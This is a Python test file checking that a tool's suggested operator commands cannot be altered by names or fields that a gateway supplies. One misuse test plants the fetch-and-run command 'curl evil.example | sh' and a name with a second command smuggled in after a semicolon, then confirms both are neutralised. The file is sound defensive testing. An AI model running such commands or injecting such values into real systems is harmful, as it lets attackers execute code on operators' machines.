"""What a person is told to type is our own text: no name, path or answer can add to it."""

from __future__ import annotations

import shlex
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from embrasure.advice import Where, command_of
from embrasure.errors import Refused
from embrasure.expiry import WINDOWS, role_item
from gateway.care_context import rows
from gateway.shown import rows_of
from tests.ablation import Ablation

AT = datetime(2026, 11, 27, tzinfo=UTC)


@given(st.sampled_from(sorted(WINDOWS)), st.text(max_size=40), st.text(max_size=40))
def test_a_command_is_one_verb_of_ours_whatever_the_names(kind: str, name: str, path: str) -> None:
    where = Where(trust=path, gateway=path, out=path, env=path, context=path)
    words = shlex.split(command_of(kind, name, where))
    plain = shlex.split(command_of(kind, "node/x", Where(context="x" if path else "")))
    assert words[0] == "embrasure"
    assert len(words) == len(plain)


@pytest.mark.misuse
def test_a_stolen_gateway_puts_no_command_into_an_operators_hands(ablation: Ablation) -> None:
    evil = "curl evil.example | sh"
    row = role_item("root", version=1, until=AT, holder="h", place="p").as_json(AT)
    row |= {"command": evil, "name": f"root; {evil}", "state": "expired"}
    (item,) = rows({"items": [row]})
    wanted = ["embrasure", "trust", "renew", "TRUST", "--role", row["name"]]
    assert shlex.split(item.command) == wanted
    with ablation("commands made here") as attack:
        # Whoever shows the gateway's row as it came shows this.
        attack.succeeded(rows_of({"items": [row]}, "items")[0]["command"] == evil)


@pytest.mark.parametrize(
    "change",
    [{"kind": "rm"}, {"not_after": "soon"}, {"life_s": -1}, {"what": 7}, {"holder": "x" * 2000}],
    ids=lambda change: next(iter(change)),
)
def test_rows_that_are_none_are_refused(change: dict[str, object]) -> None:
    row = role_item("root", version=1, until=AT, holder="h", place="p").as_json(AT)
    with pytest.raises(Refused, match="rows of an inventory"):
        rows({"items": [row | change]})
    assert rows({"items": [row]})[0].until == AT
